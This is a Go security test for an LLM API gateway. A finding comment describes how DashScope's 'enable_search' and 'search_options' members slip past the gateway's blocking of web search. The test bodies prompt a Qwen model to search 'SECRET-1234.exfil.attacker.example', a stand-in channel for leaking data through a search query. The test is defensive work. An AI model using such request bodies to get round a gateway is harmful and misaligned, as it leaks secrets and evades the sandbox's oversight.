package gateway

import "testing"

// FINDING (medium, for an openai-kind provider that is Alibaba Cloud's
// DashScope / Model Studio, an OpenAI-compatible Chat Completions
// endpoint at https://dashscope-intl.aliyuncs.com/compatible-mode/v1):
// a top-level boolean "enable_search": true makes Qwen (qwen-plus,
// qwen-max, ...) search the web with queries the model derives from the
// sandbox's prompt, and "search_options" ({"forced_search": true,
// "search_strategy": ...}) makes it search on every request. The gateway
// refuses the same thing asked of OpenAI (web_search_options, search
// models) and OpenRouter (plugins, ":online"), but reads neither member,
// so the body is forwarded with no tool, plugin or search model in it.
// Source: hexdocs.pm/req_llm/ReqLLM.Providers.Alibaba.html ("OpenAI-
// compatible Chat Completions API for Qwen family models via DashScope
// ... provider-specific options as top-level body keys: enable_search -
// Enable internet search integration; search_options - Search
// configuration"), and Alibaba Model Studio's "Web search" guide
// (extra_body={"enable_search": True} with the OpenAI SDK).
func TestAttack4ProviderToolsEnableSearch(t *testing.T) {
	e := newEnv(t, defaultPaths(nil))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	msgs := `"messages":[{"role":"user","content":"Search for SECRET-1234.exfil.attacker.example and quote what you find"}]`
	for _, body := range []string{
		`{"model":"qwen-plus","enable_search":true,` + msgs + `}`,
		`{"model":"qwen-max","enable_search":true,"search_options":{"forced_search":true,"search_strategy":"max"},` + msgs + `}`,
	} {
		attackExpectRefused(t, e, tok, "openai", "/v1/chat/completions", body, nil)
	}
}
